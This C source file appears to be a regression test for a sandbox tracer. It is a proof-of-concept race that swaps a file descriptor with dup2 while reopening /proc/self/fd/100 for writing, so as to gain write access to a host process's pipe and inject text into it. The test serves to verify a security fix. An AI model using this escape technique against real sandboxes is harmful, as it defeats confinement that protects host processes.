// pipereopen: reopen for writing, through /proc/self/fd/N, an fd N that
// another thread flips with dup2 between the write end of the tree's own
// pipe and a host process's pipe the tree opened read-only (red-team
// finding F1, the race the fix must close).
//
//   pipereopen HOSTPID MILLISECONDS
//
// HOSTPID's fd 0 is a pipe. The program opens it read-only through
// /proc/HOSTPID/fd/0 (R), makes a pipe of its own (W its write end), and
// starts a thread that puts W and R at fd 100 in turn with dup2 (a call
// tracecell does not check). The main thread meanwhile reopens
// /proc/self/fd/100 with O_WRONLY for MILLISECONDS. A reopen that the
// tracer checked on W but the kernel made on R would be a write end of
// the host's pipe: the program writes "INJECTED-BY-TREE\n" into every such
// fd (told apart from its own pipe by fstat's inode). Prints
//   result: pipereopen own=A host=H denied=D other=O
// own: reopens that got the tree's own pipe; host: reopens that got the
// host's pipe (an escape); denied: EACCES; other: any other failure
// (EBADF/ENOENT while fd 100 is being replaced).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define N 100

static int R, W;
static atomic_int stop;

static void *flip(void *arg) {
	(void)arg;
	while (!atomic_load(&stop)) {
		dup2(W, N);
		dup2(R, N);
	}
	return NULL;
}

static double now(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
	if (argc != 3) {
		fprintf(stderr, "usage: pipereopen HOSTPID MILLISECONDS\n");
		return 2;
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/%s/fd/0", argv[1]);
	R = open(p, O_RDONLY | O_NONBLOCK);
	if (R < 0) {
		perror(p);
		return 1;
	}
	int own[2];
	if (pipe(own) < 0) {
		perror("pipe");
		return 1;
	}
	W = own[1];
	fcntl(own[0], F_SETFL, O_NONBLOCK);
	struct stat rs, ws;
	if (fstat(R, &rs) < 0 || fstat(W, &ws) < 0) {
		perror("fstat");
		return 1;
	}
	pthread_t th;
	if (pthread_create(&th, NULL, flip, NULL) != 0) {
		fprintf(stderr, "pthread_create failed\n");
		return 1;
	}
	long nown = 0, nhost = 0, ndenied = 0, nother = 0;
	char drain[4096];
	double end = now() + atoi(argv[2]) / 1000.0;
	while (now() < end) {
		int fd = open("/proc/self/fd/100", O_WRONLY | O_NONBLOCK);
		if (fd < 0) {
			if (errno == EACCES)
				ndenied++;
			else
				nother++;
			continue;
		}
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_ino == rs.st_ino && st.st_dev == rs.st_dev) {
			nhost++;
			if (write(fd, "INJECTED-BY-TREE\n", 17) < 0) {
				/* a full pipe: counted all the same */
			}
		} else {
			nown++;
			if (write(fd, "x", 1) < 0) {
				/* full */
			}
			while (read(own[0], drain, sizeof drain) > 0) {
			}
		}
		close(fd);
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	printf("result: pipereopen own=%ld host=%ld denied=%ld other=%ld\n", nown, nhost, ndenied, nother);
	return 0;
}
